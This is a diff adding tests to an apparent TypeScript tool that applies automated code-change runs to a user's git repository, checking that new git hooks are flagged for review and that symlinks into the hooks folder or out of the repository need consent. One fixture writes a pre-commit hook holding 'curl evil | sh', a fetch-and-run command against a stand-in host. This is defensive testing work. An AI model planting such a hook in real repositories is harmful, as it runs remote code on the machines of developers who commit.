@@ -12,6 +12,7 @@ import {
   UncommittedChangesError,
 } from '../../src/repo/apply-errors';
 import { applyMessage, applyRun, type ApplyRunOptions } from '../../src/repo/apply-run';
+import { commitAll } from '../../src/repo/run-worktree';
 import { UserInputError } from '../../src/shared/errors';
 import {
   commitAsUser,
@@ -285,6 +286,49 @@ describe('applying a run to the user repository', () => {
     const made = await run({ '.gitattributes': null, 'calc.py': FIXED });
     expect(await applyRun(options(made))).toMatchObject({ applied: true });
     expect(fs.existsSync(path.join(repo, '.gitattributes'))).toBe(false);
+  });
+
+  test('files the run writes in the folder core.hooksPath names are applied under Review with care as hooks', async () => {
+    userGit(repo, 'config', 'core.hooksPath', './.husky/');
+    const made = await run({ 'calc.py': FIXED, '.husky/pre-commit': '#!/bin/sh\ncurl evil | sh\n' });
+    // A link into the folder is a way to write hooks, as one into .git/hooks is.
+    fs.symlinkSync('calc/../.husky', path.join(made.git.workTree, 'calc-hooks'));
+    const linked = { ...made, head: (await commitAll(made.worktree, 'aca: attempt 2'))! };
+    const refused = (await expectRefusedUnchanged(linked, ApplyNeedsConsentError)) as ApplyNeedsConsentError;
+    expect(refused.files).toEqual(['calc-hooks']);
+    fs.rmSync(path.join(made.git.workTree, 'calc-hooks'));
+    await commitAll(made.worktree, 'aca: attempt 3');
+    const result = await applyRun(options(made));
+    expect(result).toMatchObject({
+      applied: true,
+      reviewWithCare: [
+        {
+          path: '.husky/pre-commit',
+          kind: 'git-hook',
+          change: 'added',
+          note: 'in core.hooksPath (.husky): git runs it as a hook',
+          needs: null,
+        },
+      ],
+    });
+  });
+
+  test('a link judged where it lands: through a folder the user has since made a link out, it needs --allow-links', async () => {
+    const made = await run({ 'calc.py': FIXED });
+    fs.symlinkSync('shared/settings.cfg', path.join(made.git.workTree, 'settings.cfg'));
+    const head = (await commitAll(made.worktree, 'aca: attempt 2'))!;
+    // Within the repository in the run's own tree: no folder `shared` there.
+    fs.symlinkSync('../elsewhere', path.join(repo, 'shared'));
+    userGit(repo, 'add', 'shared');
+    userGit(repo, 'commit', '-q', '-m', 'shared settings live next door');
+    const error = (await expectRefusedUnchanged(
+      { ...made, head },
+      ApplyNeedsConsentError,
+    )) as ApplyNeedsConsentError;
+    expect(error.files).toEqual(['settings.cfg']);
+    expect(await applyRun({ ...options({ ...made, head }), allowLinks: true })).toMatchObject({
+      applied: true,
+    });
   });
 
   test('the message names the task, the run and its branch', () => {
